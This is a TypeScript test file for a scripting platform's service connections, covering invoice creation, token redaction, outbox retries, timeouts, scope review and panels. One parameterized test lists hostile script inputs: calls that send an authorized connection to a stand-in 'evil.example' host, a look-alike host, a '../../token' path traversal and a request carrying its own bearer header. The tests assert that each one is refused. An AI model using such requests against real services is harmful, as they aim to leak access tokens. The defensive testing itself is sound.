import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { drainOutbox } from '../../src/core/outbox.ts';
import type { ApplicationId, ConnectionId } from '../../src/domain/ids.ts';
import type { Sandbox } from '../../src/sandbox/serve.ts';
import { defineConnection, order, saveComponent, startShop } from '../support/builders.ts';
import { startCore, type TestCore } from '../support/core.ts';
import { authorize, EMAILS } from '../support/estate.ts';
import { startTestSandbox } from '../support/sandbox.ts';

let sandbox: Sandbox;
let core: TestCore;
let shop: ApplicationId;
let books: ConnectionId;

beforeAll(async () => {
  sandbox = await startTestSandbox();
});
afterAll(() => sandbox.close());
beforeEach(async () => {
  sandbox.books.invoices.length = 0;
  sandbox.faults.everythingDown = false;
  core = await startCore({ sandboxOrigin: sandbox.origin });
  shop = await startShop(core);
  books = await defineConnection(core, shop, 'sandbox-books', {
    linkName: 'our_books',
    scopes: ['books.invoices.create', 'books.invoices.read', 'books.organization.read'],
  });
});

const script = (kind: 'deluge-task' | 'deluge-invokeurl', text: string, start: object | null = null) =>
  saveComponent(core, shop, kind, { start: start as never, script: text });
const connect = () => authorize(core, books, 'development', { email: EMAILS.dana });
const run = async (text: string) => {
  const componentId = await script('deluge-invokeurl', text);
  return core.do('runComponent', { componentId, recordId: null });
};
const url = (path: string) => `${sandbox.origin}/books/api/${path}`;

const CREATE = `order = {"customer":input.customer,"reference":"R-1","item":"Sale","amount":input.amount.toLong(),"date":"2026-11-26"};
answer = zoho.books.createRecord("invoices","10",order,"our_books");
info "made " + answer.get("invoice").get("id");
return answer.get("invoice").get("id");`;

describe('scripts as components', () => {
  it('R50 R58 an integration task runs through the connection; the script sees the answer and nothing that authorizes it', async () => {
    await connect();
    await script('deluge-task', CREATE, { form: 'orders', trigger: { event: 'create' }, conditions: [] });
    const { runs } = await order(core, shop, { customer: 'Robin', amount: '12' });
    expect(runs).toMatchObject([
      {
        isOk: true,
        result: { label: 'Returned', value: 'INV-0001' },
        script: {
          info: [{ text: 'made INV-0001', line: 3 }],
          requests: [{ method: 'POST', url: url('invoices?organization_id=10'), status: 201 }],
          stoppedAt: null,
        },
      },
    ]);
    expect(sandbox.books.invoices).toMatchObject([{ customer: 'Robin', amount: 12, account: EMAILS.dana }]);
    expect(runs[0]?.script?.trace.map(({ name, line }) => [name, line])).toEqual([
      ['order', 1],
      ['answer', 2],
    ]);
    const shown = JSON.stringify(await core.dump());
    for (const token of sandbox.issued()) expect(shown).not.toContain(token);
  });

  it('R50 invokeurl reaches its connection’s service, with the status and the answer as the documentation has them', async () => {
    await connect();
    const found = await run(`r = invokeurl [ url: "${url('organization')}" type: GET connection: our_books detailed: true ];
info r.get("responseCode");
return r.get("responseText").toMap().get("organization").get("name");`);
    expect(found).toMatchObject({ isOk: true, result: { value: 'Dana Developer’s books' }, script: { info: [{ text: '200' }] } });
    // An error status is an answer and throws nothing (RULES 3.1).
    const wrong =
      await run(`r = invokeurl [ url: "${url('invoices')}" type: POST parameters: {"a":"b"}.toString() content-type: "application/json" connection: "our_books" ];
return r.get("error");`);
    expect(wrong).toMatchObject({ isOk: true, result: { value: 'invalid' }, response: { status: 422 } });
  });

  it.each([
    ['S23 another host', 'invokeurl [ url: "https://evil.example/x" type: GET connection: "our_books" ]', 'run.destination-refused'],
    ['S23 a host that looks alike', 'invokeurl [ url: "ORIGIN@evil.example/x" connection: "our_books" ]', 'run.destination-refused'],
    ['S23 another path of the same host', 'invokeurl [ url: "ORIGIN/token" connection: "our_books" ]', 'run.destination-refused'],
    ['S23 a way up', 'invokeurl [ url: "ORIGIN/books/api/../../token" connection: "our_books" ]', 'run.destination-refused'],
    [
      'S24 an authorization of its own',
      'invokeurl [ url: "ORIGIN/books/api/organization" headers: {"Authorization":"Bearer x"} connection: "our_books" ]',
      'run.destination-refused',
    ],
    ['a call without a connection', 'invokeurl [ url: "https://api.example/x" type: GET ]', 'run.connection-unnamed'],
    [
      'R56 a connection that the application does not have',
      'invokeurl [ url: "ORIGIN/books/api/organization" connection: "not_ours" ]',
      'run.connection-missing',
    ],
    ['a task that does not run', 'zoho.writer.mergeAndStore("d",{"a":1},{"b":2},"our_books")', 'run.task-unknown'],
  ])('%s is refused before anything is sent', async (_, expression, code) => {
    await connect();
    const before = core.ctx.requests.length;
    const text = `x = ${expression.replaceAll('ORIGIN', sandbox.origin)};`;
    expect(await run(text)).toMatchObject({ isOk: false, fault: { code }, script: { stoppedAt: { line: 1 } } });
    expect(core.ctx.requests.filter(({ purpose }) => purpose === 'service').length).toBe(
      core.ctx.requests.slice(core.ctx.requests.length - before).filter(({ purpose }) => purpose === 'service').length,
    );
    // A script may catch it, in a person's words.
    const caught = await run(`try { ${text} } catch (e) { info e.message; return "caught"; }`);
    expect(caught).toMatchObject({ isOk: true, result: { value: 'caught' } });
    expect(caught.script?.info[0]?.text).not.toContain('Bearer');
  });

  it('S2 a service that echoes the token is redacted before the script sees it', async () => {
    const echo = await startCore({
      sandboxOrigin: sandbox.origin,
      fetch: async (address, init) => {
        if (!address.includes('/books/api/organization')) return fetch(address, init);
        const sent = new Headers(init.headers).get('authorization') ?? '';
        return new Response(JSON.stringify({ organization: { name: sent } }), {
          headers: { 'content-type': 'application/json', 'x-echo': sent },
        });
      },
    });
    core = echo;
    shop = await startShop(core);
    books = await defineConnection(core, shop, 'sandbox-books', { linkName: 'our_books', scopes: ['books.organization.read'] });
    await connect();
    const { script: log, result } = await run(`r = invokeurl [ url: "${url('organization')}" connection: "our_books" detailed: true ];
info r.get("responseHeader").get("x-echo");
return r.get("responseText");`);
    expect(log?.info[0]?.text).toBe('Bearer •••');
    expect(result?.value).toBe('{"organization":{"name":"Bearer •••"}}');
  });

  it('R110 R114 R101 says who must act where a connection is not authorized', async () => {
    await script('deluge-task', CREATE, { form: 'orders', trigger: { event: 'create' }, conditions: [] });
    const { runs } = await order(core, shop, { customer: 'Robin', amount: '12' });
    expect(runs).toMatchObject([{ fault: { code: 'run.not-connected' }, outbox: { state: 'held' }, missing: [{ who: 'you' }] }]);
    await connect();
    const [entry] = (await core.see('outbox', {})).entries;
    await core.do('retryOutbox', { outboxId: entry?.id ?? 'out_0' });
    expect(sandbox.books.invoices).toHaveLength(1);
  });

  it('is never begun anew by itself once it has asked a service for something', async () => {
    await connect();
    await script('deluge-task', `${CREATE}\nx = undefined_thing.get("a");`, {
      form: 'orders',
      trigger: { event: 'create' },
      conditions: [],
    });
    const text = `${CREATE.replace('return', 'x =')}\nzoho.books.getRecords("invoices","10","","missing_one");`;
    await script('deluge-task', text, { form: 'orders', trigger: { event: 'create' }, conditions: [] });
    const { runs } = await order(core, shop, { customer: 'Robin', amount: '12' });
    expect(runs.filter(({ isOk }) => isOk)).toHaveLength(1);
    expect(runs.find(({ isOk }) => !isOk)).toMatchObject({ fault: { code: 'run.connection-missing' }, outbox: { state: 'held' } });
    const before = sandbox.books.invoices.length;
    await core.do('revokeAuthorization', { authorizationId: (await core.ctx.db.authorizations.toArray())[0]?.id ?? 'aut_0' });
    await connect();
    await drainOutbox(core.ctx);
    expect(sandbox.books.invoices).toHaveLength(before);
  });

  it('stops a script that does not end, and says where', { timeout: 60_000 }, async () => {
    const rows = Array.from({ length: 200 }, (_, index) => index).join(',');
    const endless = `l = {${rows}};
for each a in l { for each b in l { for each c in l { for each d in l { x = a; } } } }`;
    const found = await run(endless);
    expect(found).toMatchObject({ isOk: false, fault: { code: 'run.script-failed' }, script: { stoppedAt: { line: 2 } } });
    expect(found.fault?.detail).toContain('did more than it may');
  });

  it('R54 R89 R43 its references lock, dynamic ones ask for a list, unknown ones stop publishing', async () => {
    await script('deluge-invokeurl', `r = invokeurl [ url: "${url('organization')}" connection: "Our_Books" ];`);
    expect(await core.fails('setConnectionAccess', { connectionId: books, applicationId: null, isMove: false })).toBe(
      'connection.referenced',
    );
    const seen = await core.see('connection', { connectionId: books });
    expect(seen.references).toMatchObject([{ line: 1, task: 'invokeurl', certainty: null }]);
    await script('deluge-invokeurl', `r = invokeurl [ url: "${url('organization')}" connection: input.which ];`);
    await script('deluge-invokeurl', `r = invokeurl [ url: "${url('organization')}" connection: "nobody" ];`);
    const review = await core.see('publishReview', { applicationId: shop, version: null });
    const codes = review.problems.map(({ code, isBlocking }) => [code, isBlocking]);
    expect(codes).toContainEqual(['readiness.dynamic', true]);
    expect(codes).toContainEqual(['readiness.reference-unknown', true]);
  });

  it('R55 R79 tells what in a script is not understood, and which scopes a task lacks or nobody has written down', async () => {
    await defineConnection(core, shop, 'zoho-crm', { linkName: 'crm', scopes: ['ZohoCRM.modules.leads.READ'] });
    await script(
      'deluge-task',
      'a = zoho.crm.createRecord("Leads", {"Last_Name":"x"}, Map(), "crm");\nb = zoho.crm.getRecords("Leads", 1, 200, Map(), "crm");',
    );
    await script('deluge-task', 'm = "Leads"; c = zoho.crm.createRecord(m, {"a":"b"}, Map(), "crm");\nd = ;');
    const { problems } = await core.see('publishReview', { applicationId: shop, version: null });
    const of = (code: string) => problems.filter((one) => one.code === code).map(({ detail }) => detail);
    expect(of('readiness.scope-lacking')).toEqual(['crm lacks ZohoCRM.modules.Leads.CREATE for zoho.crm.createRecord']);
    expect(of('readiness.scope-not-checked')).toEqual(['zoho.crm.createRecord in line 1']);
    expect(of('readiness.script')).toHaveLength(1);
  });

  it('S28 names scopes that nothing uses, and only where all that is used is known', async () => {
    const idle = async (): Promise<(string | null)[]> => {
      const { problems } = await core.see('publishReview', { applicationId: shop, version: null });
      return problems.filter(({ code }) => code === 'readiness.scope-unused').map(({ detail }) => detail);
    };
    const tooMany = 'our_books asks for books.invoices.read';
    const orders = { form: 'orders', trigger: { event: 'create' }, mapping: {} };
    await saveComponent(core, shop, 'form-integration', { ...orders, connection: 'our_books', operation: 'create-invoice' });
    expect(await idle()).toEqual([tooMany]);
    const scopes = ['ZohoCRM.org.READ', 'ZohoCRM.users.READ', 'ZohoCRM.modules.ALL'];
    await defineConnection(core, shop, 'zoho-crm', { linkName: 'crm', scopes });
    await script('deluge-task', 'b = zoho.crm.getRecords("Leads", 1, 200, Map(), "crm");');
    expect(await idle()).toEqual(['crm asks for ZohoCRM.users.READ', tooMany]);
    await script('deluge-invokeurl', 'c = invokeurl [ url: "https://www.zohoapis.eu/crm/v7/users" connection: "crm" ];');
    expect(await idle()).toEqual([tooMany]);
    await script('deluge-invokeurl', `r = invokeurl [ url: "${url('organization')}" connection: input.which ];`);
    expect(await idle()).toEqual([]);
  });

  it('R33 R34 an import rewrites what scripts name, and says what it could not', async () => {
    await connect();
    await script('deluge-invokeurl', `r = invokeurl [ url: "${url('organization')}" connection: "our_books" ];`);
    await core.do('publishApplication', { applicationId: shop, version: '1.0.0', allowed: [] });
    const release = (await core.see('application', { applicationId: shop })).releases[0];
    if (release === undefined) throw new Error('no version');
    const { text } = await core.do('distributeRelease', { releaseId: release.id, channel: { kind: 'marketplace' }, isConfirmed: true });
    const { hash } = await core.do('previewBundle', { text });
    const report = await core.do('importApplication', { text, hash });
    const [copy] = await core.ctx.db.components.where('[ownerId+environment]').equals([report.applicationId, 'development']).toArray();
    expect(copy?.config['script']).toContain('connection: "our_books_copy"');
    expect(copy?.references).toEqual(['our_books_copy']);
  });
});

describe('panels', () => {
  it('R50 R74 shows a number, a list and a chart from a script, and keeps the last good value with its age', async () => {
    await connect();
    const panel = (shape: string, text: string) =>
      saveComponent(core, shop, 'page-panel', {
        page: 'board',
        title: 'Invoices',
        connection: '',
        operation: '',
        values: {},
        script: text,
        shape,
        label: 'customer',
        value: 'amount',
        refresh: 'minute',
      });
    const list = `r = zoho.books.getRecords("invoices","10","","our_books"); return r.get("invoices");`;
    const [number, rows, chart] = [
      await panel('number', list.replace('r.get("invoices")', 'r.get("invoices").size()')),
      await panel('list', list),
      await panel('chart', list),
    ];
    await script('deluge-task', CREATE, { form: 'orders', trigger: { event: 'create' }, conditions: [] });
    await order(core, shop, { customer: 'Robin', amount: '12' });
    const read = (componentId: typeof number) => core.do('runComponent', { componentId, recordId: null });
    expect(await read(number)).toMatchObject({ isOk: true, result: { label: 'Invoices', value: '1', table: null } });
    expect((await read(rows)).result?.table?.columns).toContain('customer');
    expect((await read(chart)).result?.table).toEqual({ columns: ['customer', 'amount'], rows: [['Robin', '12']] });
    // An error status would be an answer to a script; a service that is not there is none.
    sandbox.faults.everythingDown = true;
    const failed = await read(number);
    expect(failed).toMatchObject({ isOk: false, lastGood: { result: { value: '1' } } });
    const { components } = await core.see('liveMode', { ownerId: shop, environment: 'development' });
    expect(components.find(({ id }) => id === number)).toMatchObject({
      refresh: 60_000,
      lastRun: { lastGood: { result: { value: '1' } } },
    });
  });
});
